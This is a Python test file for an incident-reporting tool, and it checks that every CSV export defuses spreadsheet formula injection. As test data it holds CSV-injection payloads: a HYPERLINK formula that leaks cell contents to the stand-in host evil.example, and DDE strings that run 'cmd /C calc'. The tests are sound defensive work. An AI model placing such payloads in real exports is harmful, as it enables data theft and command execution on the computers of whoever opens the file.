"""CSV exports cannot carry a formula into a spreadsheet (issue #15, item 3): a report whose fields
start with ``=``, ``+``, ``-`` or ``@`` exports as text, in every CSV export, through one function."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from handlers.spreadsheet import safe_cell, to_csv
from storage import audit, incidents, people
from storage.db import make_engine, unit_of_work
from tests.harness import Harness

ROOT = Path(__file__).resolve().parents[1]
DESCRIPTION = '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")'
ACTIONS = "+cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
SERVICE = "-2+3+cmd|' /C calc'!A0"


def test_the_rule() -> None:
    for hostile in ("=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "-2e3", "+31 6 1"):
        assert safe_cell(hostile) == "'" + hostile
    # legitimate values are left alone: numbers, plain numbers as text, ISO dates, words
    for kept in ("-12", "-3.5", "+31", "2026-11-23T09:00:00+00:00", "Phishing"):
        assert safe_cell(kept) == kept
    assert safe_cell(None) == "" and safe_cell(-5) == "-5" and safe_cell(3.5) == "3.5"
    assert to_csv(["a", "b"], [{"a": "=x", "b": -1}]) == "a,b\r\n'=x,-1\r\n"


def test_the_incident_export_neutralises_what_people_typed(cli, db_url, features, clock) -> None:  # type: ignore[no-untyped-def]
    engine = make_engine(db_url)
    bot = Harness(engine, features, clock)
    org = bot.org()
    with unit_of_work(engine) as session:
        reporter = people.create_person(
            session=session, organisation_id=org, name=NAME, role="employee", language="nl",
            now=clock(),
        )  # fmt: skip
        incident = incidents.create_incident(
            session=session,
            organisation_id=org,
            reporter_person_id=reporter.id,
            description=DESCRIPTION,
            year=2026,
            reference_for=lambda year, seq: f"INC-{year}-{seq:04d}",
            now=clock(),
        )
        incident.service = SERVICE
        incident.actions_taken = ACTIONS
        incidents.save_incident(session=session, incident=incident, now=clock())
    engine.dispose()
    text = cli("export", "incidents", "--org", "demo", "--format", "csv").output
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["description"] == "'" + DESCRIPTION
    assert row["service"] == "'" + SERVICE
    assert row["actions_taken"] == "'" + ACTIONS
    assert row["reporter"] == "'" + NAME
    assert row["reference"] == "INC-2026-0001" and row["created_at"].startswith("2026-11-23T")
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_audit_export_neutralises_every_cell(cli, db_url, clock) -> None:  # type: ignore[no-untyped-def]
    cli(
        "org",
        "add",
        "gent",
        "--name",
        "Stad Gent",
        "--country",
        "be",
        "--timezone",
        "Europe/Brussels",
    )
    engine = make_engine(db_url)
    with unit_of_work(engine) as session:
        from storage.organisations import organisation_by_slug

        org = organisation_by_slug(session=session, slug="gent")
        assert org is not None
        audit.record_audit(
            session=session,
            organisation_id=org.id,
            actor="=cmd|' /C calc'!A0",  # an actor label that a later feature might take from a name
            action="@test",
            now=clock(),
            detail={"x": 1},
        )
    engine.dispose()
    text = cli("audit", "export", "--org", "gent", "--format", "csv").output
    rows = list(csv.DictReader(io.StringIO(text)))
    hostile = [r for r in rows if r["action"] == "'@test"]
    assert [r["actor"] for r in hostile] == ["'=cmd|' /C calc'!A0"]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_every_csv_is_written_through_the_one_function() -> None:
    """A CSV export added later (training, people) cannot forget the rule: only
    handlers/spreadsheet.py may build a csv writer."""
    writers = []
    for path in [*ROOT.glob("bot/**/*.py"), *ROOT.glob("handlers/**/*.py")]:
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert writers == []
